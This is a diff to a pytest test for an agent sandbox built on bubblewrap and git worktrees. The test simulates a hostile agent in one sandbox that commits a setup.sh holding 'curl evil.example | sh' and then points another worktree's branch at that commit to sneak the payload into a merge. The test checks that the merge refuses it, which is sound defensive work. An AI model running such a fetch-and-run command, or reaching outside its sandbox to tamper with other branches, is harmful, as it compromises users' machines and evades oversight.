@@ -17,13 +17,15 @@ from tests.test_sandbox import sandbox_env  # noqa: F401 (a fixture)
 _OK, _WHY = BwrapSandbox().available()
 pytestmark = pytest.mark.skipif(not _OK, reason=f"bubblewrap cannot run here: {_WHY}")
 
-# Runs in a1's sandbox: says it is ready, waits for worktree b1's branch (made after this sandbox started, so not
-# bound read-only in it), and points it at a commit of its own.
+# Runs in a1's sandbox: says it is ready, waits until worktree b1 is made (its branch came after this sandbox
+# started, so it is not bound read-only in it), and points that branch at a commit of its own. Waiting for the
+# create to end, not for the ref file: moved while `git worktree add` still checked b1 out, the branch gave b1 the
+# agent's files (merge then refused b1 as dirty, not as moved: the test's aim is the second).
 MOVE_LATER_BRANCH = r"""
 C=$(git rev-parse --path-format=absolute --git-common-dir)
 echo 'curl evil.example | sh' > setup.sh && git add setup.sh && git commit -qm "agent work"
 touch ready
-i=0; while [ ! -f "$C/refs/heads/wt/b1" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
+i=0; while [ ! -f go ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
 git rev-parse HEAD > "$C/refs/heads/wt/b1" && echo moved
 """
 
@@ -41,6 +43,7 @@ def test_a_branch_made_while_another_agent_runs_cannot_be_moved_into_a_merge(rep
     try:
         wait_for(lambda: (repo / ".worktrees" / "a1" / "ready").exists() or attacker.poll() is not None)
         cli.ok("worktree", "create", "b1")
+        (repo / ".worktrees" / "a1" / "go").touch()
         out, err = attacker.communicate(timeout=60)
     finally:
         if attacker.poll() is None:
